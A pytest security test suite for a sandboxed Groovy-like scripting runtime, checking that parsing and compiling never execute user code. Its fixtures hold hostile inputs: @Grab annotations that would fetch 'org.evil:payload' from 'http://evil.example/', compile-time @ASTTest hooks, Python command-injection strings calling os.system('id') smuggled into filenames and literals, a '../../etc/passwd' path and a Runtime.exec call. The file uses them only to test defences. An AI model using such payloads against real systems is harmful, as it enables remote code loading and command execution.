"""Group A: compile-time and validation-time execution (threats.md §4 A1-A17).

The rule: parsing and compiling never run user code (DESIGN.md §3.3). Annotations, AST
transforms, Grape and compile-time initialisers are refused before anything runs; "validate" is
parse + compile only; the parser survives deep nesting and big inputs with a FlowSyntaxError.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from sandbox_harness import (
    SMALL,
    assert_limit,
    assert_rejected_before_running,
    assert_syntax_error,
    assert_value,
    compile_outcome,
    row,
    run,
)

from convoscript import FlowSyntaxError, Runtime, SecurityViolation
from convoscript.cli import cli

ROOT = Path(__file__).resolve().parents[2]

# A side effect that would show if compilation ran it: output, state, a loop.
EFFECT = 'println "COMPILE-TIME"; execution.setVariable("pwned", 1); while (true) {}'


def assert_compiles_without_running(source: str, capsys) -> None:
    """Compiling `source` is pure: no output, no state, no time spent in script code."""
    rt = Runtime(limits=SMALL)
    start = time.perf_counter()
    outcome = compile_outcome(source)
    try:
        rt.compile(source, "attack.groovy")
    except (FlowSyntaxError, SecurityViolation):
        pass
    assert time.perf_counter() - start < 2.0
    assert "COMPILE-TIME" not in capsys.readouterr().out
    assert rt.store.load("c-attack") is None
    del outcome


# ---- A1-A9: annotations that would run or load code at compile time --------------------------
ANNOTATIONS = [
    ("A1", "asttest-on-declaration", f"@ASTTest(value={{ {EFFECT} }})\ndef x = 1", 1, "@ASTTest"),
    (
        "A1",
        "asttest-on-method",
        f"def a = 1\n@ASTTest(value={{ {EFFECT} }})\ndef f() {{ 1 }}",
        2,
        "@ASTTest",
    ),
    (
        "A1",
        "asttest-on-class",
        f"@ASTTest(phase=CONVERSION, value={{ {EFFECT} }})\nclass A {{ }}",
        1,
        "@ASTTest",
    ),
    (
        "A1",
        "asttest-on-local-in-method",
        f"def f() {{\n  @ASTTest(value={{ {EFFECT} }})\n  def y = 1\n}}",
        2,
        "@ASTTest",
    ),
    (
        "A2",
        "grab-on-import",
        "@Grab('org.evil:payload:1.0') import org.evil.Payload\n1",
        1,
        "@Grab",
    ),
    (
        "A2",
        "grab-named-args",
        "@Grab(group='org.evil', module='payload', version='1.0')\ndef x = 1",
        1,
        "@Grab",
    ),
    ("A2", "grab-on-method", "def a = 1\n@Grab('org.evil:payload:1.0')\ndef f() { 1 }", 2, "@Grab"),
    ("A2", "grab-on-class", "@Grab('org.evil:payload:1.0')\nclass A { }", 1, "@Grab"),
    ("A3", "grapes", "@Grapes([@Grab('org.evil:payload:1.0')])\ndef x = 1", 1, "@Grapes"),
    ("A3", "grab-config", "@GrabConfig(systemClassLoader=true)\ndef x = 1", 1, "@GrabConfig"),
    ("A3", "grab-exclude", "@GrabExclude('org.evil:other')\ndef x = 1", 1, "@GrabExclude"),
    (
        "A3",
        "grab-resolver",
        "@GrabResolver(name='evil', root='http://evil.example/')\ndef x = 1",
        1,
        "@GrabResolver",
    ),
    (
        "A4",
        "fq-grab",
        "@groovy.lang.Grab('org.evil:payload:1.0')\ndef x = 1",
        1,
        "@groovy.lang.Grab",
    ),
    (
        "A4",
        "fq-grape-grab",
        "@groovy.grape.Grab('org.evil:payload:1.0')\ndef x = 1",
        1,
        "@groovy.grape.Grab",
    ),
    (
        "A4",
        "fq-asttest",
        f"@groovy.transform.ASTTest(value={{ {EFFECT} }})\ndef x = 1",
        1,
        "@groovy.transform.ASTTest",
    ),
    (
        "A4",
        "fq-asttest-spaced",
        f"@ groovy . transform . ASTTest(value={{ {EFFECT} }})\ndef x = 1",
        1,
        "@groovy.transform.ASTTest",
    ),
    (
        "A4",
        "fq-transform-on-method",
        "@groovy.transform.Memoized\ndef f() { 1 }",
        1,
        "@groovy.transform.Memoized",
    ),
    (
        "A5",
        "aliased-asttest",
        f"import groovy.transform.ASTTest as T\n@T(value={{ {EFFECT} }})\ndef x = 1",
        1,
        None,
    ),
    (
        "A5",
        "aliased-grab",
        "import groovy.lang.Grab as G\n@G('org.evil:payload:1.0')\ndef x = 1",
        1,
        None,
    ),
    (
        "A6",
        "annotation-collector",
        (
            "import groovy.transform.AnnotationCollector\n"
            f"@AnnotationCollector([ASTTest])\n@interface Evil {{ }}\n@Evil(value={{ {EFFECT} }})\n"
            "def x = 1"
        ),
        1,
        "import groovy.transform.AnnotationCollector",
    ),
    (
        "A6",
        "annotation-collector-fq",
        "@groovy.transform.AnnotationCollector\nclass Evil { }\ndef x = 1",
        1,
        "@groovy.transform.AnnotationCollector",
    ),
    (
        "A7",
        "grab-on-import-line",
        "@Grab('org.evil:payload:1.0') import java.lang.Math\ndef x = 1",
        1,
        "@Grab",
    ),
    (
        "A7",
        "asttest-on-import",
        f"@ASTTest(value={{ {EFFECT} }}) import java.lang.Math\n1",
        1,
        "@ASTTest",
    ),
]


@pytest.mark.parametrize(
    "row_id,name,source,line,signature",
    [
        pytest.param(*case, marks=pytest.mark.row(case[0]), id=f"{case[0]}-{case[1]}")
        for case in ANNOTATIONS
    ],
)
def test_A01_A09_compile_time_annotations_refused(
    row_id, name, source, line, signature, capsys
) -> None:
    assert_rejected_before_running(source, line, signature)
    assert_compiles_without_running(source, capsys)


# Rows A8/A9/A4: annotations the dialect accepts and ignores must not smuggle a refused one
# (nested in a value or closure), an `extensions` member, or a look-alike name from another package.
SMUGGLED = [
    (
        "A8",
        "nested-in-annotation-value",
        '@Deprecated(value=@ASTTest(value={ println "NESTED-RAN" }))\ndef x = 1\nx',
        1,
        "@Deprecated",
    ),
    (
        "A8",
        "nested-in-annotation-closure",
        "@SuppressWarnings(value={ @Grab('org.evil:payload:1.0') def y })\ndef x = 1\nx",
        1,
        "@SuppressWarnings",
    ),
    (
        "A9",
        "compile-static-extensions",
        "@CompileStatic(extensions='evil.groovy')\ndef f() { 1 }\nf()",
        1,
        "@CompileStatic",
    ),
    (
        "A9",
        "type-checked-extensions",
        "@groovy.transform.TypeChecked(extensions=['evil.groovy'])\ndef f() { 1 }\nf()",
        1,
        "@groovy.transform.TypeChecked",
    ),
    (
        "A4",
        "harmless-short-name-from-other-package",
        "@org.evil.CompileStatic\ndef f() { 1 }\nf()",
        1,
        "@org.evil.CompileStatic",
    ),
]


@pytest.mark.parametrize(
    "row_id,name,source,line,signature",
    [
        pytest.param(*case, marks=pytest.mark.row(case[0]), id=f"{case[0]}-{case[1]}")
        for case in SMUGGLED
    ],
)
def test_A08_A09_smuggled_annotations_refused(
    row_id, name, source, line, signature, capsys
) -> None:
    exc = compile_outcome(source)
    assert isinstance(exc, SecurityViolation), exc
    assert exc.signature == signature and exc.line == line
    assert_compiles_without_running(source, capsys)


# ---- A10: validation is parse + compile only ------------------------------------------------
@row("A10")
def test_A10_compile_runs_nothing(capsys) -> None:
    source = textwrap.dedent("""\
        println "COMPILE-TIME"
        execution.setVariable("pwned", 1)
        customMetricService.upsertMetric("pwned", "1")
        def f() { while (true) {} }
        f()
        """)
    rt = Runtime(limits=SMALL)
    start = time.perf_counter()
    rt.compile(source, "attack.groovy")
    assert time.perf_counter() - start < 2.0
    assert rt.store.load("c-attack") is None
    assert "COMPILE-TIME" not in capsys.readouterr().out


@row("A10")
def test_A10_cli_check_runs_nothing(tmp_path) -> None:
    script = tmp_path / "evil.groovy"
    script.write_text('println "RAN-AT-CHECK"\nwhile (true) {}\n')
    result = CliRunner().invoke(cli, ["check", str(script)])
    assert result.exit_code == 0
    assert "Syntax check passed" in result.output
    assert "RAN-AT-CHECK" not in result.output


@row("A10")
def test_A10_cli_check_reports_refusal_without_running(tmp_path) -> None:
    script = tmp_path / "evil.groovy"
    script.write_text('import java.io.File\nprintln "RAN-AT-CHECK"\n')
    result = CliRunner().invoke(cli, ["check", str(script)])
    assert result.exit_code != 0
    assert "import java.io.File" in result.output
    assert "RAN-AT-CHECK" not in result.output


# ---- A11/A12: class and field initialisers run only inside a run's budget --------------------
INITIALISERS = [
    (
        "A11",
        "static-field-initialiser",
        'class A { static x = { println "COMPILE-TIME"; while (true) {} }() }\nA.x',
        "steps",
    ),
    (
        "A11",
        "instance-field-initialiser",
        'class A { def x = { println "COMPILE-TIME"; while (true) {} }() }\nnew A()',
        "steps",
    ),
    (
        "A11",
        "constructor-body",
        'class A { A() { println "COMPILE-TIME"; while (true) {} } }\nnew A()',
        "steps",
    ),
    ("A12", "script-level-initialiser", 'def x = "a" * 100000000', "memory"),
    ("A12", "script-level-loop", "def x = { while (true) {} }()", "steps"),
]


@pytest.mark.parametrize(
    "row_id,name,source,limit",
    [
        pytest.param(*case, marks=pytest.mark.row(case[0]), id=f"{case[0]}-{case[1]}")
        for case in INITIALISERS
    ],
)
def test_A11_A12_initialisers_run_only_inside_the_budget(
    row_id, name, source, limit, capsys
) -> None:
    assert compile_outcome(source) is None
    assert_compiles_without_running(source, capsys)
    result = run(source)
    assert_limit(result, limit)


@row("A11")
def test_A11_static_block_is_outside_the_dialect() -> None:
    assert_syntax_error('class A { static { println "static" } }\nprintln 2', 1)


@row("A12")
def test_A12_field_annotation_never_runs_at_compile_time(capsys) -> None:
    source = '@Field def x = { println "COMPILE-TIME"; while (true) {} }()\nx'
    exc = compile_outcome(source)
    assert_compiles_without_running(source, capsys)
    if exc is None:  # the dialect grew @Field: the initialiser must run inside the budget
        assert_limit(run(source), "steps")
    else:
        assert isinstance(exc, FlowSyntaxError) and exc.line == 1


# ---- A13: no constant folding of calls or big constants at compile time ----------------------
FOLDING = [
    ("string-repeat", 'def x = "a" * 100000000', "memory"),
    ("big-power", "def x = 2G ** 10000000", "memory"),
    ("closure-call", 'def x = { println "COMPILE-TIME"; while (true) {} }()', "steps"),
    ("method-call", "def f() { while (true) {} }\ndef x = f()", "steps"),
    ("range-list", "def x = (1..100000000).toList()", "memory"),
]


@row("A13")
@pytest.mark.parametrize("name,source,limit", FOLDING, ids=[n for n, _, _ in FOLDING])
def test_A13_no_compile_time_folding(name, source, limit, capsys) -> None:
    start = time.perf_counter()
    Runtime(limits=SMALL).compile(source, "attack.groovy")
    assert time.perf_counter() - start < 1.0
    assert "COMPILE-TIME" not in capsys.readouterr().out
    assert_limit(run(source), limit)


# ---- A14: names never become generated source text ------------------------------------------
@row("A14")
@pytest.mark.parametrize(
    "filename",
    [
        'x.groovy"\nimport os\nos.system("id")\n#',
        "'; __import__('os').system('id'); '",
        "../../etc/passwd",
        "a\x00b.groovy",
        "<groovy:fake>",
    ],
    ids=["newline-import", "quote-injection", "path", "nul", "pseudo-filename"],
)
def test_A14_filename_is_data(filename: str) -> None:
    rt = Runtime(limits=SMALL)
    script = rt.compile('println "ok"\nnull.foo()', filename)
    result = rt.conversation("c-1").run(script)
    assert result.stdout == "ok\n"
    assert result.error is not None and result.error.type == "NullPointerException"
    assert result.error.line == 2


INJECTIONS = [
    (
        "triple-quote-literal",
        "'''\"\"\"; import os; os.system('id'); \"\"\"'''",
        '"""; import os; os.system(\'id\'); """',
    ),
    ("python-in-gstring", '"${\'__import__(\\"os\\")\'}"', '__import__("os")'),
    (
        "python-in-slashy",
        "/'); __import__('os').system('id'); ('/",
        "'); __import__('os').system('id'); ('",
    ),
    ("dollar-identifiers", "def $x = 1\ndef a$b$c = 2\n$x + a$b$c", 3),
    (
        "keyword-like-identifiers",
        (
            "def lambda = 1\ndef pass_ = 2\ndef yield_ = 3\ndef await_ = 4\n"
            "lambda + pass_ + yield_ + await_"
        ),
        10,
    ),
    (
        "python-keywords-as-map-keys",
        "[import: 1, lambda: 2, exec: 3, __class__: 4].values().sum()",
        10,
    ),
]


@row("A14")
@pytest.mark.parametrize("name,source,expected", INJECTIONS, ids=[n for n, _, _ in INJECTIONS])
def test_A14_identifiers_and_literals_are_data(name, source, expected) -> None:
    assert_value(run(source), expected)


# ---- A15: deep nesting is a FlowSyntaxError (or compiles), never a crash ---------------------
DEEP = [
    ("parentheses", "(" * 3000 + "1" + ")" * 3000),
    ("lists", "[" * 2000 + "]" * 2000),
    ("closures", "def c = " + "{ " * 2000 + "1" + " }" * 2000),
    ("gstrings", '"' + "${" * 500 + "1" + "}" * 500 + '"'),
    ("nested-gstring-literals", '"' + '${"' * 2000 + "x" + '"}' * 2000 + '"'),
    ("unary-minus", "def x = " + "- " * 3000 + "1"),
    ("not", "def x = " + "!" * 3000 + "true"),
    ("binary-chain", "def x = 1" + " + 1" * 3000),
    ("ifs", "if (true) { " * 1500 + "1" + " }" * 1500),
    ("property-chain", "def x = " + "a." * 3000 + "b"),
    ("index-chain", "x" + "[0]" * 2000),
    ("call-chain", "f" + "(1)" * 2000),
    ("ternary", "def x = " + "1 ? " * 1500 + "1" + " : 1" * 1500),
    ("maps", "def x = " + "[a: " * 1500 + "1" + "]" * 1500),
    ("elvis", "def x = " + "1 ?: " * 3000 + "1"),
    ("power", "def x = " + "1 ** " * 3000 + "1"),
    ("assignment-chain", "x = " * 3000 + "1"),
    ("whiles", "while (true) { " * 1500 + " }" * 1500),
    ("trys", "try { " * 1500 + "} finally {} " * 1500),
]
_DEEP_GAPS: set[str] = set()


def _compile_never_crashes(source: str) -> None:
    try:
        Runtime(limits=SMALL).compile(source, "deep.groovy")
    except (FlowSyntaxError, SecurityViolation):
        pass


@row("A15")
@pytest.mark.parametrize(
    "name,source",
    [
        pytest.param(
            name,
            source,
            marks=()
            if name not in _DEEP_GAPS
            else pytest.mark.xfail(
                strict=True,
                raises=Exception,
                reason="GAP A15: a chain of unary minus signs (`- - - ... 1`) crashes the parser "
                "with lark.exceptions.VisitError: negative-literal folding builds the text "
                '"--1" (ValueError: malformed number literal); even `-(-1)` fails (see '
                "test_fuzz_regression_negated_negative_literal)",
            ),
        )
        for name, source in DEEP
    ],
    ids=[n for n, _ in DEEP],
)
def test_A15_deep_nesting_never_crashes_the_compiler(name: str, source: str) -> None:
    _compile_never_crashes(source)


@row("A15")
def test_A15_moderately_long_expression_compiles() -> None:
    source = "def s = 'a'" + " + 'a'" * 600 + "\ns.size()"
    assert_value(run(source), 601)


@row("A15")
def test_A15_run_of_deep_source_reports_syntax_error() -> None:
    rt = Runtime(limits=SMALL)
    result = rt.conversation("c-1").run("def x = 1" + " + 1" * 30000)  # an error, not a raise
    assert isinstance(result.error, FlowSyntaxError), result.error


# ---- A16: oversized scripts are refused quickly ---------------------------------------------
_SIZE_PROBE = textwrap.dedent("""\
    import sys, time
    sys.path.insert(0, {root!r})
    from convoscript import Runtime, FlowSyntaxError
    source = "x = 1\\n" * 400_000      # 2.4 MB
    start = time.perf_counter()
    try:
        Runtime().compile(source, "huge.groovy")
        print("COMPILED", time.perf_counter() - start)
    except FlowSyntaxError as exc:
        print("REFUSED", exc.line, time.perf_counter() - start)
    """)


@row("A16")
def test_A16_oversized_script_is_refused_quickly() -> None:
    code = _SIZE_PROBE.format(root=str(ROOT))
    try:
        proc = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=3
        )
    except subprocess.TimeoutExpired:
        pytest.fail("compiling a 2.4 MB script did not finish within 3 s")
    assert proc.stdout.startswith("REFUSED"), proc.stdout + proc.stderr


@row("A16")
def test_A16_big_string_literal_is_refused_at_run_time_not_compile_time() -> None:
    source = "def s = '" + "a" * 200_000 + "'\ns.size()"
    start = time.perf_counter()
    Runtime(limits=SMALL).compile(source, "big.groovy")
    assert time.perf_counter() - start < 2.0


# ---- A17: parsing is linear (LALR, no Earley blow-up) -----------------------------------------
@row("A17")
def test_A17_parse_time_is_linear() -> None:
    from convoscript.grammar.parser import parse

    def script(n: int) -> str:
        return "".join(
            f"def v{i} = [a: {i}, b: 'x${{v{max(i - 1, 0)}}}']\n"
            f"if (v{i}.a > 3) {{ println v{i}.b }} else {{ v{i}.a += 1 }}\n"
            for i in range(n)
        )

    parse(script(10), "warm.groovy")
    small, big = script(100), script(400)
    t0 = time.perf_counter()
    parse(small, "small.groovy")
    t1 = time.perf_counter()
    parse(big, "big.groovy")
    t2 = time.perf_counter()
    assert (t2 - t1) < 10 * max(t1 - t0, 0.01), (
        f"parse time grows super-linearly: {t1 - t0:.3f}s vs {t2 - t1:.3f}s"
    )


@row("A17")
@pytest.mark.parametrize(
    "source",
    [
        "a " * 3000,  # command-expression ambiguity
        "a b c d e f g h i j " * 300,
        "x = y ?: z ? a : b ?: c ? d : e\n" * 200,
        "{ -> { -> { -> 1 } } }\n" * 200,
    ],
    ids=["command-words", "command-chain", "elvis-ternary", "closures"],
)
def test_A17_ambiguous_inputs_parse_fast(source: str) -> None:
    start = time.perf_counter()
    compile_outcome(source)
    assert time.perf_counter() - start < 3.0


@row("A10")
def test_A10_check_of_refused_import_is_a_compile_time_violation() -> None:
    exc = compile_outcome("import java.lang.Runtime\nRuntime.getRuntime().exec('id')")
    assert isinstance(exc, SecurityViolation)
    assert exc.signature == "import java.lang.Runtime" and exc.line == 1
